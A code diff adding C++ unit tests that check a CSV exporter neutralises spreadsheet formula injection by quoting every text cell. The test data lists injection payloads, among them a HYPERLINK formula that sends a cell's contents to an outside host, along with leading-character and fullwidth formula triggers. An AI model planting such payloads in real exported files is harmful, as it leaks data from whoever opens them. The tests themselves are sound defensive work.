@@ -77,6 +77,40 @@ TEST(RecordText, CsvKeepsAwkwardTextsInTheirField) {
   EXPECT_EQ(tasks[1].at("prompt_tokens").as_int64(), record.tasks[1].counters.prompt_tokens);
 }
 
+// Whatever a client may have sent, a spreadsheet takes it for text; numbers stay numbers.
+TEST(RecordText, NoCellOfTextIsAFormula) {
+  for (const std::string text :
+       {"=HYPERLINK(\"http://example.org/?\"&A1)", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
+        "\uFF1D1", "\uFF0B1", "\uFF0D1", "\uFF201"}) {
+    RequestRecord record = synthetic_record(3);
+    record.tasks.resize(1);
+    record.request_id = record.method = record.path = record.error_code = record.input_text = text;
+    record.arrived_unix_ms = -1;
+    record.tasks[0].task = record.tasks[0].label = record.tasks[0].output_text = text;
+    RunInfo run = run_of(text);
+    run.model = text;
+    std::string line;
+    append_csv(record, run, line);
+    for (const char* name :
+         {"request_id", "method", "path", "error_code", "input_text", "version", "model"})
+      EXPECT_EQ(field(csv_header(), line, name), "'" + text) << name;
+    EXPECT_EQ(field(csv_header(), line, "arrived_unix_ms"), "-1");
+    std::string task_line;
+    append_csv_tasks(record, run, task_line);
+    for (const char* name : {"request_id", "task", "label", "output_text", "version", "model"})
+      EXPECT_EQ(field(csv_task_header(), task_line, name), "'" + text) << name;
+  }
+}
+
+TEST(RecordText, AnotherSeparatorBeginsNoCellInATextEither) {
+  RequestRecord record = synthetic_record(3);
+  record.input_text = "a;=1";
+  std::string line;
+  append_csv(record, run_of("a\t=1"), line);
+  EXPECT_THAT(line, testing::HasSubstr(",\"a;=1\","));
+  EXPECT_THAT(line, testing::HasSubstr(",\"a\t=1\","));
+}
+
 TEST(RecordText, CsvOfTasksHasALineForEach) {
   const RequestRecord record = awkward_record();
   std::string lines;
